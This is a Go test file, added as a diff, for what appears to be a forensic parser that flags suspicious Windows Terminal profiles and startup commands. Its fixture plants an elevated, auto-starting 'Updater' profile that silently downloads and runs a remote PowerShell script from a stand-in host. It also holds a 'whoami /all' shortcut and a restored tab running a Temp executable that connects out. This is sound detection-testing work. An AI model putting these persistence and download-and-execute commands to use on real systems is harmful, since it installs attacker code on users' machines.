@@ -0,0 +1,176 @@
+package win_applications
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+const storeTerminal = "Microsoft.WindowsTerminal_8wekyb3d8bbwe"
+
+// terminalSettingsJSON is a settings.json as Windows Terminal writes one,
+// with comments and trailing commas, after a profile was added that fetches
+// and runs a script, set as the default and opened again at every launch.
+const terminalSettingsJSON = "\xef\xbb\xbf" + `// This file was initially generated by Windows Terminal 1.18.3181.0
+{
+    "$help": "https://aka.ms/terminal-documentation",
+    "$schema": "https://aka.ms/terminal-profiles-schema",
+    "defaultProfile": "{4d7b2a1e-9c3f-4e58-b6a0-2f1d8c7e5b93}",
+    /* Reopen the updater tab next to the default one */
+    "startupActions": "new-tab -p \"Windows PowerShell\" ; new-tab -p \"Updater\"",
+    "startOnUserLogin": true,
+    "actions": [
+        { "command": { "action": "newTab", "commandline": "cmd.exe /k whoami /all" }, "keys": "ctrl+shift+w" },
+        { "command": "paste", "keys": "ctrl+v" }, // Trailing comma below
+    ],
+    "profiles": {
+        "defaults": {},
+        "list": [
+            {
+                "guid": "{61c54bbd-c2c6-5271-96e7-009a87ff44bf}",
+                "name": "Windows PowerShell",
+                "commandline": "%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                "hidden": false
+            },
+            {
+                "guid": "{4d7b2a1e-9c3f-4e58-b6a0-2f1d8c7e5b93}",
+                "name": "Updater",
+                // Runs elevated so the installer needs no prompt
+                "commandline": "powershell.exe -nop -w hidden -c \"iex (iwr 'https://cdn-update.net/u.ps1')\"",
+                "startingDirectory": "C:\\ProgramData",
+                "elevate": true,
+            },
+            {
+                "guid": "{2c4de342-38b7-51cf-b940-2309a097f518}",
+                "name": "Ubuntu",
+                "source": "Windows.Terminal.Wsl",
+                "hidden": true
+            },
+        ]
+    }
+}
+`
+
+// terminalStateJSON is a state.json with one persisted window of two tabs.
+const terminalStateJSON = `{
+    "persistedWindowLayouts": [
+        {
+            "tabLayout": [
+                { "action": "newTab", "commandline": "%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "profile": "{61c54bbd-c2c6-5271-96e7-009a87ff44bf}" },
+                { "action": "newTab", "commandline": "C:\\Users\\alice\\AppData\\Local\\Temp\\svc.exe -connect 10.0.0.9", "profile": "{4d7b2a1e-9c3f-4e58-b6a0-2f1d8c7e5b93}" }
+            ]
+        }
+    ]
+}`
+
+// terminalTree lays out a user's AppData\Local with the Store release of
+// Windows Terminal, an unrelated package and no unpackaged build.
+func terminalTree(t *testing.T) string {
+	t.Helper()
+	localAppData := t.TempDir()
+	for name, content := range map[string]string{
+		filepath.Join("Packages", storeTerminal, "LocalState", "settings.json"):                       terminalSettingsJSON,
+		filepath.Join("Packages", storeTerminal, "LocalState", "state.json"):                          terminalStateJSON,
+		filepath.Join("Packages", "Microsoft.WindowsCalculator_8wekyb3d8bbwe", "LocalState", "x.dat"): "",
+	} {
+		path := filepath.Join(localAppData, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return localAppData
+}
+
+func TestParseTerminalInstallation(t *testing.T) {
+	localAppData := terminalTree(t)
+	installs := TerminalInstallations(localAppData)
+	want := map[string]string{
+		storeTerminal: filepath.Join(localAppData, "Packages", storeTerminal, "LocalState"),
+		"unpackaged":  filepath.Join(localAppData, "Microsoft", "Windows Terminal"),
+	}
+	if !reflect.DeepEqual(installs, want) {
+		t.Fatalf("installations = %v", installs)
+	}
+
+	settings := TerminalSettings{Package: storeTerminal}
+	data, err := os.ReadFile(filepath.Join(installs[storeTerminal], "settings.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := ParseTerminalSettings(data, &settings); err != nil {
+		t.Fatal(err)
+	}
+	if data, err = os.ReadFile(filepath.Join(installs[storeTerminal], "state.json")); err != nil {
+		t.Fatal(err)
+	}
+	if err := ParseTerminalState(data, &settings); err != nil {
+		t.Fatal(err)
+	}
+
+	// Comments are dropped but the // of URLs inside strings survive
+	if settings.StartupActions != `new-tab -p "Windows PowerShell" ; new-tab -p "Updater"` || !settings.StartOnUserLogin ||
+		!reflect.DeepEqual(settings.Flags, []string{"startup_actions", "start_on_user_login"}) {
+		t.Fatalf("settings = %+v", settings)
+	}
+	wantProfiles := []TerminalProfile{
+		{Name: "Windows PowerShell", GUID: "{61c54bbd-c2c6-5271-96e7-009a87ff44bf}", Commandline: `%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell.exe`},
+		{
+			Name:              "Updater",
+			GUID:              "{4d7b2a1e-9c3f-4e58-b6a0-2f1d8c7e5b93}",
+			Commandline:       `powershell.exe -nop -w hidden -c "iex (iwr 'https://cdn-update.net/u.ps1')"`,
+			StartingDirectory: `C:\ProgramData`,
+			Elevate:           true,
+			Flags:             []string{"download_command", "elevated_profile"},
+		},
+		{Name: "Ubuntu", GUID: "{2c4de342-38b7-51cf-b940-2309a097f518}", Source: "Windows.Terminal.Wsl", Hidden: true},
+	}
+	if !reflect.DeepEqual(settings.Profiles, wantProfiles) {
+		t.Fatalf("profiles = %+v\nwant %+v", settings.Profiles, wantProfiles)
+	}
+	if !reflect.DeepEqual(settings.ActionCommands, []string{"cmd.exe /k whoami /all"}) {
+		t.Fatalf("action commands = %q", settings.ActionCommands)
+	}
+	if len(settings.RestoredCommands) != 2 || settings.RestoredCommands[1] != `C:\Users\alice\AppData\Local\Temp\svc.exe -connect 10.0.0.9` {
+		t.Fatalf("restored commands = %q", settings.RestoredCommands)
+	}
+
+	// The startup actions and the default profile are what run at launch
+	report := NewTerminalReport("alice")
+	report.Installations = append(report.Installations, settings)
+	report.Finish()
+	wantStartup := []string{settings.StartupActions, wantProfiles[1].Commandline}
+	if !reflect.DeepEqual(report.StartupCommands, wantStartup) || report.FlaggedCount != 2 {
+		t.Fatalf("startup commands = %q, %d flagged", report.StartupCommands, report.FlaggedCount)
+	}
+}
+
+func TestParseTerminalSettingsLegacyProfileList(t *testing.T) {
+	// Before 0.11, profiles was a bare list
+	settings := TerminalSettings{}
+	err := ParseTerminalSettings([]byte(`{"profiles": [{"name": "cmd", "commandline": "\"C:\\Windows\\System32\\cmd.exe\""},],}`), &settings)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(settings.Profiles) != 1 || settings.Profiles[0].Commandline != `"C:\Windows\System32\cmd.exe"` || settings.Profiles[0].Flags != nil {
+		t.Fatalf("profiles = %+v", settings.Profiles)
+	}
+	if err := ParseTerminalSettings([]byte(`{"profiles": /* unterminated`), &settings); err == nil {
+		t.Fatal("truncated settings.json parsed")
+	}
+}
+
+func TestStripJSONComments(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{`{"a": 1, // one` + "\n" + `}`, "{\"a\": 1 \n}"},
+		{`{"url": "http://x/*y*/"} /* trailing */`, `{"url": "http://x/*y*/"} `},
+		{`["a\"//b",]`, `["a\"//b"]`},
+	} {
+		if got := string(stripJSONComments([]byte(tt.in))); got != tt.want {
+			t.Errorf("stripJSONComments(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}